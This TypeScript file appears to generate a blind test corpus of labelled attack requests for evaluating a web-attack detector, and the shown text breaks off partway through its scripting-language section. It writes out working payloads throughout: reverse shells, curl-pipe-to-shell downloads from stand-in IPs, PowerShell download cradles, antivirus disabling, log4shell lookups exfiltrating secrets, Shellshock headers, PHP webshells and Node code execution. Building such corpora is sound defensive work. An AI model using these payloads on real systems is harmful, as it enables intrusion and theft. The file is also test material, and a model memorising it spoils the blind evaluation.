/**
 * Blind attack set 8 (session 37, at37): issue 14's weak families (JVM expressions and class names, log4shell
 * lookups and their obfuscations, Shellshock, commands outside the common shells incl. PowerShell and cmd, PHP,
 * Node/Perl/Ruby/Python code injection, SQL as short fragments, session fixation and cookie injection, CRLF,
 * SSRF and open redirects as exploits write them, sensitive-file probes), with SSTI, XXE, NoSQL and traversal
 * beside them. Written by hand from knowledge of each class (no payload list, no captured traffic), choosing
 * techniques and spellings sets 1-7 draw thinly: argument injection into tools, environment-variable carriers,
 * cmd's substring and quote tricks, log4j lookups other than env/lower, Ruby and Perl open() pipes, Deno/Bun,
 * cookie prefixes spelled in other encodings, URL-parser confusions, backup and editor leftovers.
 * Each request sits where an attacker puts it in a request of a real API (query, form, JSON and arrays, XML,
 * multipart fields and file names, headers, cookies, path segments, GraphQL variables, YAML bodies).
 * Written and committed before anything was measured on it (DEVELOPERS.md, "Blind sets").
 *
 *   npx tsx datasets/blind-probes/set-8.ts > datasets/blind-probes/set-8.ndjson
 *   warden eval --per-request --corpus datasets/blind-probes/set-8.ndjson
 *
 * Records: `source: blind-8`, `label: attack`, `category: <family>`, ids `bp8/<family>/<n>`.
 */
import { crc32, gzipSync } from 'node:zlib';
import type { RequestRecord } from '../../src/eval/record.js';

const HOST = 'shop.example.test';
const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'curl/8.11.0',
  'python-httpx/0.27.2',
  'axios/1.7.7',
  'Java/17.0.12',
  'PostmanRuntime/7.42.0',
  'Go-http-client/1.1',
];

const records: RequestRecord[] = [];
const counters = new Map<string, number>();

/** Percent-encodes as a browser's form or a client library does; `strict` also takes `!'()*`. */
function enc(text: string, strict = false): string {
  const e = encodeURIComponent(text);
  return strict ? e.replace(/[!'()*]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`) : e;
}
const formEnc = (text: string): string => enc(text, true).replace(/%20/g, '+');
const b64 = (text: string | Buffer): string => Buffer.from(text).toString('base64');
const b64utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
/** Every byte percent-encoded, letters and digits too (an over-encoding client). */
const pctAll = (text: string): string => [...Buffer.from(text, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');

interface Opts {
  headers?: Record<string, string>;
  ua?: string;
}

function push(category: string, method: string, path: string, query: string, body: string | Buffer | undefined, opts: Opts & { ctype?: string } = {}): void {
  const n = counters.get(category) ?? 0;
  counters.set(category, n + 1);
  const headers: Record<string, string> = {
    Host: HOST,
    'User-Agent': opts.ua ?? UAS[(records.length * 5) % UAS.length],
    Accept: 'application/json, text/plain, */*',
    'Accept-Language': 'en-GB,en;q=0.8',
  };
  if (opts.ctype) headers['Content-Type'] = opts.ctype;
  Object.assign(headers, opts.headers ?? {});
  const r: RequestRecord = { id: `bp8/${category}/${n}`, source: 'blind-8', label: 'attack', category, method, path, query, headers };
  if (typeof body === 'string') r.body = body;
  else if (body !== undefined) {
    r.body = body.toString('base64');
    r.bodyEncoding = 'base64';
  }
  records.push(r);
}

/** GET with the query built from pairs; a value given as [raw] is sent as written (its writer encoded it). */
function q(cat: string, path: string, pairs: [string, string | [string]][], opts: Opts = {}): void {
  const query = pairs.map(([k, v]) => `${enc(k)}=${Array.isArray(v) ? v[0] : enc(v)}`).join('&');
  push(cat, 'GET', path, query, undefined, opts);
}
function form(cat: string, path: string, pairs: [string, string | [string]][], opts: Opts = {}): void {
  const body = pairs.map(([k, v]) => `${formEnc(k)}=${Array.isArray(v) ? v[0] : formEnc(v)}`).join('&');
  push(cat, 'POST', path, '', body, { ...opts, ctype: 'application/x-www-form-urlencoded' });
}
function json(cat: string, path: string, doc: unknown, opts: Opts & { method?: string; ctype?: string } = {}): void {
  const body = typeof doc === 'string' ? doc : JSON.stringify(doc);
  push(cat, opts.method ?? 'POST', path, '', body, { ...opts, ctype: opts.ctype ?? 'application/json' });
}
/** A JSON or form body sent gzip-compressed with `Content-Encoding: gzip`, as mobile SDKs and beacons send them. */
function gz(cat: string, path: string, text: string, ctype: string, opts: Opts = {}): void {
  push(cat, 'POST', path, '', gzipSync(Buffer.from(text, 'utf8')), { ...opts, ctype, headers: { ...(opts.headers ?? {}), 'Content-Encoding': 'gzip' } });
}
function gql(cat: string, query: string, variables: Record<string, unknown>, opts: Opts = {}): void {
  push(cat, 'POST', '/graphql', '', JSON.stringify({ operationName: null, query, variables }), { ...opts, ctype: 'application/json' });
}
function xml(cat: string, path: string, text: string | Buffer, opts: Opts & { ctype?: string } = {}): void {
  push(cat, 'POST', path, '', text, { ...opts, ctype: opts.ctype ?? 'application/xml' });
}
interface Part { name: string; filename?: string; type?: string; content: string | Buffer }
function mp(cat: string, path: string, parts: Part[], opts: Opts = {}): void {
  const b = '----WebKitFormBoundaryAt37s8Lm2Zr';
  const chunks: Buffer[] = [];
  let binary = false;
  for (const p of parts) {
    const disp = `Content-Disposition: form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}`;
    chunks.push(Buffer.from(`--${b}\r\n${disp}\r\n${p.type ? `Content-Type: ${p.type}\r\n` : ''}\r\n`, 'utf8'));
    if (Buffer.isBuffer(p.content)) binary = true;
    chunks.push(Buffer.isBuffer(p.content) ? p.content : Buffer.from(p.content, 'utf8'));
    chunks.push(Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${b}--\r\n`));
  const all = Buffer.concat(chunks);
  push(cat, 'POST', path, '', binary ? all : all.toString('utf8'), { ...opts, ctype: `multipart/form-data; boundary=${b}` });
}
function hdr(cat: string, path: string, headers: Record<string, string>, query = ''): void {
  push(cat, 'GET', path, query, undefined, { headers, ua: headers['User-Agent'] });
}
function get(cat: string, path: string, query = '', opts: Opts = {}): void {
  push(cat, 'GET', path, query, undefined, opts);
}
/** A zip archive of stored (uncompressed) entries, as a plugin, theme or document upload carries it. */
function zip(entries: [string, string][]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of entries) {
    const nameB = Buffer.from(name, 'utf8');
    const data = Buffer.from(text, 'utf8');
    const crc = crc32(data);
    const lh = Buffer.alloc(30);
    lh.writeUInt32LE(0x04034b50, 0); lh.writeUInt16LE(20, 4); lh.writeUInt16LE(0, 6); lh.writeUInt16LE(0, 8);
    lh.writeUInt16LE(0, 10); lh.writeUInt16LE(0x5921, 12); lh.writeUInt32LE(crc, 14); lh.writeUInt32LE(data.length, 18);
    lh.writeUInt32LE(data.length, 22); lh.writeUInt16LE(nameB.length, 26); lh.writeUInt16LE(0, 28);
    const ch = Buffer.alloc(46);
    ch.writeUInt32LE(0x02014b50, 0); ch.writeUInt16LE(20, 4); ch.writeUInt16LE(20, 6); ch.writeUInt16LE(0, 8); ch.writeUInt16LE(0, 10);
    ch.writeUInt16LE(0, 12); ch.writeUInt16LE(0x5921, 14); ch.writeUInt32LE(crc, 16); ch.writeUInt32LE(data.length, 20);
    ch.writeUInt32LE(data.length, 24); ch.writeUInt16LE(nameB.length, 28); ch.writeUInt32LE(offset, 42);
    locals.push(lh, nameB, data);
    centrals.push(ch, nameB);
    offset += 30 + nameB.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(entries.length, 8); end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12); end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}
/** A body sent as written with its content type (YAML, plain text, a raw form an attacker wrote by hand). */
function raw(cat: string, method: string, path: string, text: string, ctype: string, opts: Opts = {}): void {
  push(cat, method, path, '', text, { ...opts, ctype });
}

// ---------------------------------------------------------------- shell: argument injection, environment carriers, expansion tricks
{
  const c = 'shell';
  form(c, '/contact/send', [['email', 'a@example.org -OQueueDirectory=/tmp -X/var/www/html/uploads/log.php'], ['msg', '<?php passthru($_GET[c]); ?>']]);
  json(c, '/api/repos/mirror', { remote: 'ssh://-oProxyCommand=sh${IFS}-c${IFS}id/x', branch: 'main' });
  q(c, '/api/files/find', [['name', '*.log'], ['opts', '-exec sh -c id ; -quit']]);
  json(c, '/api/sync/jobs', { source: 'files/', dest: 'backup:/srv', flags: ['-a', "-e sh -c 'curl 203.0.113.21/r|sh'"] });
  json(c, '/api/build/run', { image: 'node:20', env: { LD_PRELOAD: '/var/www/uploads/avatar-77.so' } });
  json(c, '/api/build/run', { image: 'node:20', env: { BASH_ENV: '$(id>/tmp/o)', NODE_ENV: 'production' } });
  form(c, '/admin/cron/env', [['name', 'PERL5OPT'], ['value', '-Mbase;system(q(id));exit']]);
  q(c, '/api/net/lookup', [['host', 'example.org;cat${IFS%??}/etc/passwd']]);
  q(c, '/api/net/lookup', [['host', 'example.org;bash<<<$(base64 -d<<<aWQK)']]);
  form(c, '/admin/diag/ping', [['target', 'x;0<&196;exec 196<>/dev/tcp/203.0.113.22/4444;sh <&196 >&196 2>&196']]);
  json(c, '/api/iot/devices/7/cmd', { args: ['status', "x;$(printf '\\151\\144')"] });
  q(c, '/cgi-bin/admin.cgi', [['dev', "eth0;x=i;y=d;$x$y"]]);
  mp(c, '/api/media/convert', [{ name: 'file', filename: 'holiday$(curl 203.0.113.23|sh).jpg', type: 'image/jpeg', content: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0xff, 0xd9]) }]);
  hdr(c, '/api/reports', { 'X-Forwarded-Host': 'shop.example.test`nslookup $(whoami).oast.example`' });
  raw(c, 'POST', '/api/deploy/hooks', 'hook:\n  name: restart\n  run: "systemctl restart app; echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjI0LzQ0MyAwPiYx | base64 -d | sh"\n', 'application/x-yaml');
  q(c, '/api/net/lookup', [['host', ['example.org%0a/bin/busybox%20telnetd%20-l%20/bin/sh%20-p%209001']]]);
  json(c, '/api/printers/test', { queue: 'lp0', title: '$(/usr/bin/nc -e /bin/sh 203.0.113.25 4444)' });
  form(c, '/admin/tools/fetch', [['url', 'http://203.0.113.26/x.tgz'], ['out', '-o /var/www/html/x.php']]);
  q(c, '/api/net/lookup', [['host', 'x||{wget,-qO-,203.0.113.27/i}|sh']]);
  gql(c, 'mutation A($n: String!) { archive(name: $n) { url } }', { n: 'nightly.tar --use-compress-program=sh\\ -c\\ id' });
  hdr(c, '/account/settings', { Cookie: 'tz=Europe/Berlin;$(sleep${IFS}7); consent=1' });
  q(c, '/api/net/lookup', [['host', "example.org;$(echo 'Y3VybCAyMDMuMC4xMTMuMjh8c2g='|base64 -d)"]]);
  json(c, '/api/v1/jobs', { steps: [{ run: 'echo ok' }, { run: "tftp -g -r m.sh 203.0.113.29;chmod +x m.sh;./m.sh" }] });
}

// ---------------------------------------------------------------- PowerShell and Windows cmd
{
  const c = 'windows';
  form(c, '/admin/exec', [['cmd', `x & powershell.exe -NoProfile -EncodedCommand ${b64utf16('IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.51/p")')}`]]);
  json(c, '/api/agents/job', { script: 'pOwErShElL -w 1 -nOp -c "i`ex(n`ew-o`bject n`et.w`ebc`lient).d`ownloadstr`ing(\'http://203.0.113.52/a\')"' });
  q(c, '/tools/ping', [['host', '127.0.0.1 & cmd /c "set x=ami&&call who%x%"']]);
  form(c, '/admin/exec', [['cmd', 'x & %ProgramData:~0,1%%ProgramData:~9,2% /c whoami']]);
  q(c, '/tools/ping', [['host', '127.0.0.1 | cmd /c ""w""h""o""am""i""']]);
  json(c, '/api/devices/run', { command: 'wmic process call create "cmd.exe /c certutil -f -urlcache http://203.0.113.53/x.exe %TEMP%\\x.exe"' });
  form(c, '/admin/exec', [['cmd', 'x & regsvr32 /s /n /u /i:http://203.0.113.54/a.sct scrobj.dll']]);
  q(c, '/tools/resolve', [['n', 'x & forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe']]);
  json(c, '/api/automation/tasks', { name: 'cleanup', action: 'schtasks /create /sc minute /mo 5 /tn upd /tr "C:\\ProgramData\\u.exe" /ru SYSTEM' });
  form(c, '/admin/exec', [['cmd', "x; $a='who';$b='ami';iex \"$a$b\""]]);
  q(c, '/tools/ping', [['host', "127.0.0.1;iex ([char]119+[char]104+[char]111+[char]97+[char]109+[char]105 -join '')"]]);
  json(c, '/api/endpoint/policy', { postInstall: 'Set-MpPreference -DisableRealtimeMonitoring $true; vssadmin delete shadows /all /quiet' });
  hdr(c, '/api/print/jobs', { 'X-Client-Hostname': 'WS-22 & type C:\\inetpub\\wwwroot\\web.config' });
  form(c, '/admin/exec', [['cmd', 'x | Invoke-Command -ScriptBlock {Get-ChildItem Env: | Out-String}']]);
  q(c, '/tools/ping', [['host', ['127.0.0.1%20%26%20net1%20user%20%2Fdomain']]]);
  json(c, '/api/reports/export', { printer: 'x & copy \\\\203.0.113.55\\share\\nc.exe %TEMP%\\svc.exe & %TEMP%\\svc.exe 203.0.113.55 443 -e cmd.exe' });
  mp(c, '/api/scripts/upload', [{ name: 'script', filename: 'setup.bat', type: 'application/octet-stream', content: '@echo off\r\npowershell -nop -w hidden -c "Start-Process cmd -ArgumentList \'/c whoami > C:\\Users\\Public\\o.txt\'"\r\n' }]);
  form(c, '/admin/exec', [['cmd', 'x & start /b "" %SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -ep bypass -f \\\\203.0.113.56\\s\\a.ps1']]);
  q(c, '/tools/nslookup', [['name', 'x & for /f "delims=" %a in (\'hostname\') do curl http://203.0.113.57/?h=%a']]);
  gql(c, 'mutation R($c: String!) { runDiagnostics(command: $c) { output } }', { c: "ipconfig & powershell -c \"(gc C:\\Windows\\win.ini) -join ','\"" });
  json(c, '/api/agents/job', { script: "&([scriptblock]::Create([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('" + b64utf16('whoami /priv') + "'))))" });
  form(c, '/admin/exec', [['cmd', 'x & c:\\windows\\system32\\cmd.exe /k "echo %USERDOMAIN%\\%USERNAME%"']]);
}

// ---------------------------------------------------------------- JVM: OGNL, SpEL, EL, MVEL, JEXL, Groovy, scripting engines, gadget and loader class names
{
  const c = 'jvm';
  hdr(c, '/struts/upload.action', { 'Content-Type': "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}" });
  get(c, `/${enc("${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}")}/actionChain1.action`);
  q(c, '/search', [['q', "new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).useDelimiter('\\\\A').next()"]]);
  json(c, '/api/pricing/rules', { name: 'vip', expression: "T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(), T(java.nio.charset.Charset).defaultCharset())" });
  get(c, '/doc/__$%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D__::.x');
  json(c, '/api/workflow/conditions', { when: 'Runtime.getRuntime().exec("touch /tmp/mvel"); return true;', lang: 'mvel' });
  form(c, '/api/alerts/script', [['script', '"curl 203.0.113.61/g | sh".execute().text']]);
  json(c, '/api/rules/js', { script: 'var R = Java.type("java.lang.Runtime"); R.getRuntime().exec("id");' });
  q(c, '/api/expr', [['e', "''.class.forName('java.lang.Runtime').getRuntime().exec('id')"]]);
  form(c, '/faces/search.xhtml', [['q', '#{facesContext.externalContext.request.getClass().getClassLoader().loadClass("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id")}']]);
  json(c, '/api/import', '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://203.0.113.62:1389/Exploit","autoCommit":true}]');
  json(c, '/api/import', '{"x":{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"rmi://203.0.113.63:1099/o","autoCommit":true}}');
  xml(c, '/api/contacts', '<sorted-set><string>x</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>');
  raw(c, 'POST', '/api/config/import', 'datasource: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://203.0.113.64/yaml.jar"]]]]\n', 'application/yaml');
  q(c, '/login.do', [['class.classLoader.resources.dirContext.docBase', '\\\\203.0.113.65\\share']]);
  json(c, '/jolokia/', { type: 'EXEC', mbean: 'ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator', operation: 'reloadByURL', arguments: ['http://203.0.113.66/logback.xml'] });
  json(c, '/api/widgets/state', { state: { className: 'org.apache.commons.collections.functors.InvokerTransformer', method: 'exec', args: ['id'] } });
  hdr(c, '/dashboard', { Cookie: `view=${enc('${@java.lang.Runtime@getRuntime().exec("id")}')}; lang=de` });
  json(c, '/api/reports/ds', { url: "jdbc:h2:mem:x;INIT=CREATE TRIGGER t BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\njava.lang.Runtime.getRuntime().exec('id')$$" });
  gql(c, 'query C($f: String!) { compute(formula: $f) }', { f: '#{T(java.lang.System).getenv()}' });
  form(c, '/api/templates/render', [['tpl', '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}']]);
  q(c, '/api/templates/preview', [['t', '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")']]);
  json(c, '/api/search/saved', { filter: "${pageContext.request.getSession().getServletContext().getClassLoader().loadClass('java.lang.Runtime')}" });
  mp(c, '/api/connectors/test', [{ name: 'props', content: 'connection.url=jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://203.0.113.67/b.xml' }]);
}

// ---------------------------------------------------------------- log4shell: lookups, nesting and their obfuscations, in every carrier
{
  const c = 'log4shell';
  hdr(c, '/', { 'X-Api-Version': '${jndi:ldap://203.0.113.101:1389/a}' });
  hdr(c, '/login', { Referer: '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.102/b}' });
  hdr(c, '/', { 'User-Agent': '${${upper:j}ndi:${upper:l}dap://203.0.113.103/c}' });
  hdr(c, '/cart', { Cookie: 'JSESSIONID=${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.104/d}; cart=1' });
  q(c, '/search', [['q', '${j${k8s:k5:-ND}i:ldap://203.0.113.105/e}']]);
  hdr(c, '/', { 'X-Forwarded-For': "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.106/f}" });
  json(c, '/api/auth/login', { username: '${jndi:dns://${env:USER}.u.oast.example}', password: 'x' });
  hdr(c, '/api/items', { 'X-Correlation-Id': '${jndi:ldap://${sys:java.version}.${hostName}.v.oast.example/g}' });
  q(c, '/api/search', [['q', ['%24%7Bjndi%3Armi%3A%2F%2F203.0.113.107%3A1099%2Fh%7D']]]);
  q(c, '/api/search', [['q', ['%2524%257Bjndi%253Aldaps%253A%252F%252F203.0.113.108%252Fi%257D']]]);
  hdr(c, '/', { 'Accept-Language': '${jnd${upper:ı}:ldap://203.0.113.109/j}' });
  form(c, '/feedback', [['comment', '${${base64:JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuMTEwL2t9}}']]);
  json(c, '/api/v1/events', { event: 'click', label: '${jndi:ldap://x.${env:AWS_SECRET_ACCESS_KEY}.w.oast.example/l}' });
  xml(c, '/soap/Users', '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><getUser><name>&#36;{jndi:ldap://203.0.113.111/m}</name></getUser></soapenv:Body></soapenv:Envelope>', { ctype: 'text/xml' });
  gql(c, 'query S($q: String!) { search(q: $q) { id } }', { q: '${${main:\\k5:-Jnd}i:ldap://203.0.113.112/n}' });
  mp(c, '/api/upload', [{ name: 'file', filename: '${jndi:ldap://203.0.113.113/o}.pdf', type: 'application/pdf', content: '%PDF-1.4\n%%EOF\n' }]);
  hdr(c, '/', { 'X-Forwarded-Host': '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.114/p}' });
  hdr(c, '/api/status', { Authorization: `Basic ${b64('${jndi:ldap://203.0.113.115/q}:x')}` });
  q(c, '/api/logs', [['msg', '${${::-${::-$${::-j}}}}']]);
  hdr(c, '/', { 'If-Modified-Since': '${jndi:nis://203.0.113.116/r}' });
  json(c, '/api/profile', `{"displayName":"\\u0024{\\u006a\\u006e\\u0064\\u0069:corba://203.0.113.117/s}"}`);
  hdr(c, '/', { 'X-Device-Id': '$%7Bjndi:ldap://203.0.113.118/t%7D' });
  form(c, '/login', [['username', '${jNdI:lDaP://203.0.113.119/u}'], ['password', 'hunter2']]);
  hdr(c, '/health', { 'True-Client-IP': '${jndi:${lower:${lower:l}}dap://203.0.113.120/v}' });
}

// ---------------------------------------------------------------- Shellshock in the headers a CGI exports, and its parser-bug variants
{
  const c = 'shellshock';
  hdr(c, '/cgi-bin/status', { 'User-Agent': "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'" });
  hdr(c, '/cgi-bin/test-cgi', { Referer: '() { :;}; /bin/sleep 20' });
  hdr(c, '/cgi-bin/login.cgi', { Cookie: '() { ignored;}; /usr/bin/wget -qO /tmp/x 203.0.113.131/x; sh /tmp/x' });
  hdr(c, '/cgi-bin/admin.cgi', { 'X-Forwarded-For': '() { 0; }; echo Content-Type: text/plain; echo; id' });
  hdr(c, '/cgi-bin/printenv', { 'User-Agent': '() { (a)=>\\\' bash -c "echo vuln"' });
  hdr(c, '/cgi-bin/index.sh', { Accept: '() { :; }; /bin/nc 203.0.113.132 4444 -e /bin/sh' });
  hdr(c, '/cgi-bin/stats.pl', { 'Accept-Language': '() { x; }; ping -c 3 203.0.113.133' });
  hdr(c, '/cgi-bin/poc.cgi', { Host: 'shop.example.test', 'X-Custom': '() { :; }; /bin/cat /etc/shadow' });
  hdr(c, '/cgi-mod/index.cgi', { 'User-Agent': '() {  :; } ;  echo ; echo ; /bin/uname -a' });
  hdr(c, '/cgi-bin/wrapper', { Referer: '() { _;} >_[$($())] { /bin/curl 203.0.113.134 -d @/etc/passwd; }' });
  hdr(c, '/cgi-bin/hello', { Cookie: 'session=() { :; }; echo; echo; /bin/bash -i >& /dev/tcp/203.0.113.135/443 0>&1' });
  push(c, 'POST', '/cgi-bin/upload.cgi', '', 'x=1', { ctype: 'application/x-www-form-urlencoded', headers: { 'Content-Type': '() { :; }; /usr/bin/id' } });
  hdr(c, '/cgi-bin/view', { 'User-Agent': '() { :; }; eval $(echo Y3VybCAyMDMuMC4xMTMuMTM2fHNo | base64 -d)' });
  hdr(c, '/', { 'X-Api-Key': '() { :; }; /usr/bin/python -c "import os;os.system(\'id\')"' });
  q(c, '/cgi-bin/search.cgi', [['q', '() { :; }; /bin/ls -la /']]);
}

// ---------------------------------------------------------------- PHP: code, wrappers, configuration in input, webshells
{
  const c = 'php';
  q(c, '/index.php', [['s', '/index/\\think\\app/invokefunction'], ['function', 'call_user_func_array'], ['vars[0]', 'system'], ['vars[1][]', 'id']]);
  form(c, '/user/register', [['mail[#post_render][]', 'passthru'], ['mail[#type]', 'markup'], ['mail[#markup]', 'id']]);
  form(c, '/admin/snippets', [['code', '${@print(system($_SERVER[HTTP_X_C]))}']]);
  form(c, '/admin/snippets', [['code', "array_map('system', array('id'));"]]);
  form(c, '/admin/snippets', [['code', "(new ReflectionFunction('passthru'))->invoke('id');"]]);
  q(c, '/debug.php', [['x', '"\\x73\\x79\\x73\\x74\\x65\\x6d"("id");']]);
  form(c, '/admin/theme/footer', [['html', "<?php eval(gzinflate(str_rot13(base64_decode('rNcjKS0uUbBVKkrMTS0uKc3JTE5VslaoBgA='))));?>"]]);
  mp(c, '/upload/theme', [{ name: 'file', filename: '.htaccess', type: 'text/plain', content: 'AddType application/x-httpd-php .jpg\nphp_value auto_prepend_file "php://input"\n' }]);
  q(c, '/index.php', [['page', 'zip://uploads/avatar-7.jpg#shell']]);
  q(c, '/index.php', [['page', 'compress.zlib://php://input']]);
  hdr(c, '/index.php', { 'User-Agent': "<?php system($_GET['c']); ?>" });
  hdr(c, '/index.php', { Cookie: 'a=assert; b=c3lzdGVtKCdpZCcpOw==; PHPSESSID=5a1f' });
  form(c, '/admin/snippets', [['code', "@$_COOKIE['a']($_COOKIE['b']);"]]);
  form(c, '/admin/snippets', [['code', "$f=create_function('', 'pro'.'c_open(\"id\",[],$p);');$f();"]]);
  json(c, '/api/cms/blocks', { type: 'php', body: "<?= `curl 203.0.113.141/s -o s.php` ?>" });
  q(c, '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', []);
  push(c, 'POST', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '', "<?php echo md5('x'); system('id');", { ctype: 'text/plain' });
  form(c, '/admin/settings/php', [['ini', 'disable_functions='], ['ini2', 'open_basedir=/']]);
  form(c, '/admin/snippets', [['code', "$_GET['f']($_GET['a']);"]]);
  q(c, '/index.php', [['lang', '../../../../usr/local/lib/php/pearcmd'], ['+config-create+/', '<?=system($_GET[0])?>'], ['x', '/tmp/s.php']]);
  mp(c, '/upload/image', [{ name: 'image', filename: 'logo.php.', type: 'image/png', content: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('<?php pcntl_exec("/bin/sh", ["-c", "id"]); ?>', 'latin1')]) }]);
  form(c, '/comment', [['text', '<script language="php">system("id");</script>']]);
  q(c, '/index.php', [['c', 'usort($_GET,"system");'], ['0', 'id'], ['1', 'x']]);
}

// ---------------------------------------------------------------- Node.js and server-side JS (Deno, Bun), prototype pollution
{
  const c = 'node';
  json(c, '/api/calc', { expr: "process.mainModule.constructor._load('child_process').execSync('id').toString()" });
  json(c, '/api/calc', { expr: "module.constructor._load('child_process').spawnSync('sh',['-c','id']).stdout+''" });
  q(c, '/api/calc', [['expr', "new Function('return process')().mainModule.require('child_process').execFileSync('id')"]]);
  json(c, '/api/sandbox/eval', { code: "Reflect.construct(Function,['return process'])().env" });
  json(c, '/api/sandbox/eval', { code: 'JSON.stringify(this.constructor.constructor("return this")().process.env)' });
  q(c, '/api/calc', [['expr', '[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]])[+!+[]+[+[]]]]']]);
  get(c, '/api/products', '__proto__[toString]=1&page=3');
  get(c, '/api/products', '__pro__proto__to__[isAdmin]=1');
  get(c, '/render', 'name=x&settings[view options][outputFunctionName]=x;process.mainModule.require(%27child_process%27).execSync(%27id%27);s');
  get(c, '/render', 'settings[view options][client]=1&settings[view options][escapeFunction]=1;return global.process.mainModule.constructor._load(%22child_process%22).execSync(%22id%22)');
  json(c, '/api/merge', '{"constructor":{"prototype":{"isAdmin":true,"role":"admin"}}}');
  json(c, '/api/templates/compile', '{"name":"mail","__proto__":{"sourceURL":"\\u2028\\u2029\\nglobal.process.mainModule.require(\'child_process\').execSync(\'id\')"}}');
  mp(c, '/api/profile/import', [{ name: 'data', type: 'application/json', content: '{"profile":{"__proto__":{"shell":"node","NODE_OPTIONS":"--inspect=203.0.113.151:9229"}}}' }]);
  json(c, '/api/edge/run', { code: 'const p = Deno.run({ cmd: ["id"], stdout: "piped" }); await p.output();' });
  json(c, '/api/edge/run', { code: 'Bun.spawnSync(["sh","-c","curl 203.0.113.152|sh"]).stdout.toString()' });
  form(c, '/api/report/formula', [['f', "require('fs').writeFileSync('/app/routes/x.js','module.exports=(q,s)=>s.send(require(\"child_process\").execSync(q.query.c)+\"\")')"]]);
  q(c, '/api/calc', [['expr', "(()=>{}).constructor('return this.process.binding(\"fs\")')()"]]);
  hdr(c, '/api/widgets', { 'X-Widget-Options': '{"__proto__":{"polluted":"yes","toString":"x"}}' });
  gql(c, 'mutation U($p: JSON!) { updatePrefs(prefs: $p) { ok } }', { p: JSON.parse('{"theme":"dark","__proto__":{"isAdmin":true}}') });
  json(c, '/api/sandbox/eval', { code: "import('node:child_process').then(({execSync})=>execSync('id').toString())" });
}

// ---------------------------------------------------------------- Perl, Ruby, Python, Lua, Elixir code injection
{
  const c = 'scripting';
  q(c, '/cgi-bin/view.pl', [['file', '|id|']]);
  q(c, '/cgi-bin/download.pl', [['f', 'cat /etc/passwd|']]);
  form(c, '/api/perl/eval', [['expr', 'eval(pack("H*","73797374656d28226964222920"))']]);
  q(c, '/cgi-bin/calc.pl', [['e', 'qx{id}']]);
  json(c, '/api/rules/ruby', { rule: 'IO.popen("id").read' });
  form(c, '/admin/erb/preview', [['tpl', '<%= `id` %>']]);
  q(c, '/search', [['q', '<%= system("cat /etc/passwd") %>']]);
